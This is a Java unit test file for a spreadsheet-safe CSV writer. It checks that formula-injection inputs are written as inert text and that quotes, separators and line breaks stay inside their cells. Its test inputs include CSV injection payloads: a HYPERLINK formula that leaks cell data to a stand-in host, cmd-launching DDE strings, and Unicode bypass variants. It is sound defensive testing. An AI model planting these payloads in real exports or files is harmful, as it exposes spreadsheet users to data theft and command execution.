package fr.chambery.cqc.core.text;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV injection (OWASP): what a visitor typed is never read as a formula by the spreadsheet that opens
 * the file, and nothing it contains can leave its cell.
 */
class SpreadsheetCsvTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+33 6 12 34 56 78", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\tCamille", "\rCamille", " =1+1", "   +1", "\u00a0@SUM(A1)",
            "\uff1dHYPERLINK(\"http://evil.example\")", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "=", "-"})
    void aCellThatASpreadsheetWouldReadAsAFormulaIsWrittenAsTextWithALeadingQuote(String typed) throws IOException {
        CSVRecord row = writtenAndReadBack(List.of(typed)).get(1);

        assertThat(row.get(0)).isEqualTo("'" + typed);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Camille Exemple", "Jean-Paul", "camille@example.org", "O'Brien", "Zoé = Max", "1 + 1", "", "   ",
            "Dupont-Durand", "habitant·e"})
    void anOrdinaryTextIsWrittenAsItIs(String typed) throws IOException {
        CSVRecord row = writtenAndReadBack(List.of(typed)).get(1);

        assertThat(row.get(0)).isEqualTo(typed);
    }

    @Test
    void separatorsQuotesAndLineBreaksStayInsideTheirCellInAnyLocale() throws IOException {
        String bytes = written(List.of("a;=1+1", "b,=1+1", "say \"hi\"", "line\n=1+1"));

        assertThat(bytes.lines().skip(1).findFirst().orElseThrow())
                .as("every cell quoted: a spreadsheet splitting on commas instead of semicolons still keeps them whole")
                .startsWith("\"a;=1+1\";\"b,=1+1\";\"say \"\"hi\"\"\";\"line");
        assertThat(writtenAndReadBack(List.of("a;=1+1", "b,=1+1", "say \"hi\"", "line\n=1+1")).get(1).toList())
                .containsExactly("a;=1+1", "b,=1+1", "say \"hi\"", "line\n=1+1");
    }

    @Test
    void numbersAndDatesPassedAsSuchKeepTheirSign() throws IOException {
        CSVRecord row = writtenAndReadBack(List.of(-12, new BigDecimal("-3.50"), LocalDate.of(2026, 11, 30),
                Instant.parse("2026-11-30T10:00:00Z"))).get(1);

        assertThat(row.toList()).containsExactly("-12", "-3.50", "2026-11-30", "2026-11-30T10:00:00Z");
    }

    @Test
    void theFileIsUtf8WithABomSemicolonsAndItsHeader() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SpreadsheetCsv csv = SpreadsheetCsv.open(out, "nom", "e-mail")) {
            csv.row("Zoé", null);
        }
        byte[] bytes = out.toByteArray();

        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(new String(bytes, StandardCharsets.UTF_8)).isEqualTo("\ufeff\"nom\";\"e-mail\"\r\n\"Zoé\";\"\"\r\n");
    }

    private static String written(List<Object> cells) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (SpreadsheetCsv csv = SpreadsheetCsv.open(out, cells.stream().map(c -> "colonne").toArray(String[]::new))) {
            csv.row(cells.toArray());
        }
        return new String(out.toByteArray(), StandardCharsets.UTF_8).substring(1);
    }

    private static List<CSVRecord> writtenAndReadBack(List<Object> cells) throws IOException {
        try (CSVParser parser = CSVFormat.Builder.create(CSVFormat.EXCEL).setDelimiter(';').get()
                .parse(new StringReader(written(cells)))) {
            return parser.getRecords();
        }
    }
}
